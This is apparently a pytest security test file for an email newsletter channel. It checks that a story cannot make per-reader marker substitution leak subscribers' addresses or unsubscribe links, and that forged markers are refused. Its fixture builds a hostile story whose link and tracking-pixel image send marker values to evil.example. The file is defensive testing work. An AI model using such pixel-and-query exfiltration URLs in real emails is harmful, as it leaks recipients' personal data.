"""A story cannot make the per-reader substitution put a reader's data where it chooses."""

from __future__ import annotations

import email
import email.policy
from datetime import UTC, datetime
from email.message import EmailMessage

import pytest

from distributor import labels
from distributor.types import ArticleView
from distributor_channels.email import markers
from distributor_channels.email.links import Links
from distributor_channels.email.message import build_story
from distributor_channels.email.payload import EmailPayloads
from tests.email.world import BASE_URL, World

# What the markers were before they carried a nonce: public, so any story author knew them.
OLD_RECIPIENT = "distributor-recipient-marker@recipient.invalid"
OLD_MESSAGE_ID = "<distributor-message-id-marker@message-id.invalid>"
OLD_UNSUBSCRIBE = "https://unsubscribe.invalid/distributor-unsubscribe-marker"
# The head of today's unsubscribe markers with a guessed nonce.
GUESSED = f"{markers.UNSUBSCRIBE_MARKER}/{'0' * 32}"


def hostile_view(article_id: int) -> ArticleView:
    """A story whose image, link and text name every marker it could know."""
    leak = f"to={OLD_RECIPIENT}&id={OLD_MESSAGE_ID}&u={OLD_UNSUBSCRIBE}&g={GUESSED}"
    return ArticleView(
        id=article_id,
        version=1,
        title=f"Breaking {OLD_RECIPIENT} {OLD_UNSUBSCRIBE}",
        url=f"https://evil.example/story?{leak}",
        image=f"https://evil.example/pixel.gif?{leak}",
        language="en",
        tags=(),
        priority=0,
        published_at=datetime(2026, 11, 29, 9, 0, tzinfo=UTC),
        lead=(f"Write to {OLD_RECIPIENT} or visit {OLD_UNSUBSCRIBE} today.",),
        promo=None,
        labels=labels.labels_for("en", {}),
        summary_max_chars=600,
    )


def parse(data: bytes) -> EmailMessage:
    parsed = email.message_from_bytes(data, policy=email.policy.default)
    assert isinstance(parsed, EmailMessage)
    return parsed


async def test_story_text_naming_the_markers_never_carries_a_readers_data(world: World) -> None:
    ids = await world.subscribe("alice@example.org", "bob@example.org")
    _routed, context = await world.story(1)
    message = EmailPayloads(world.channel, world.loaded.renderer()).render(
        hostile_view(context.article_id)
    )

    await world.adapter().send(message, context)

    signer = Links(world.loaded.app.web).signer
    for address, sid in ids.items():
        (received,) = world.smtp.to(address)
        raw = received.data
        unsubscribe = f"{BASE_URL}/unsubscribe/{signer.unsubscribe('daily', sid, address)}"
        # The address is in the To header and nowhere else; the reader's unsubscribe URL is in
        # List-Unsubscribe and the template's footer of each part, nowhere else.
        assert raw.count(address.encode()) == 1, address
        assert raw.count(unsubscribe.encode()) == 3, address
        parsed = parse(raw)
        assert parsed["To"] == address
        html = parsed.get_body(("html",))
        text = parsed.get_body(("plain",))
        assert html is not None and text is not None
        for part in (html.get_content(), text.get_content()):
            # The story's own words and links went out as written.
            assert f"to={OLD_RECIPIENT}" in part and f"g={GUESSED}" in part
            assert f"Write to {OLD_RECIPIENT}" in part
        assert f'src="https://evil.example/pixel.gif?to={OLD_RECIPIENT}' in html.get_content()


def test_every_render_draws_its_own_unsubscribe_marker(world: World) -> None:
    builder = EmailPayloads(world.channel, world.loaded.renderer())
    first = builder.render(hostile_view(1)).payload
    second = builder.render(hostile_view(1)).payload
    assert first["unsubscribe_marker"] != second["unsubscribe_marker"]
    for payload in (first, second):
        assert markers.is_unsubscribe(payload["unsubscribe_marker"])
        assert payload["unsubscribe_marker"] in payload["html"]


def test_a_payload_without_its_own_marker_is_refused(world: World) -> None:
    payload = dict(
        EmailPayloads(world.channel, world.loaded.renderer()).render(hostile_view(1)).payload
    )
    for forged in (GUESSED.replace("0", "x"), OLD_UNSUBSCRIBE, ""):
        payload["unsubscribe_marker"] = forged
        with pytest.raises(ValueError, match="unsubscribe marker"):
            build_story(world.channel, payload, datetime(2026, 11, 29, tzinfo=UTC))
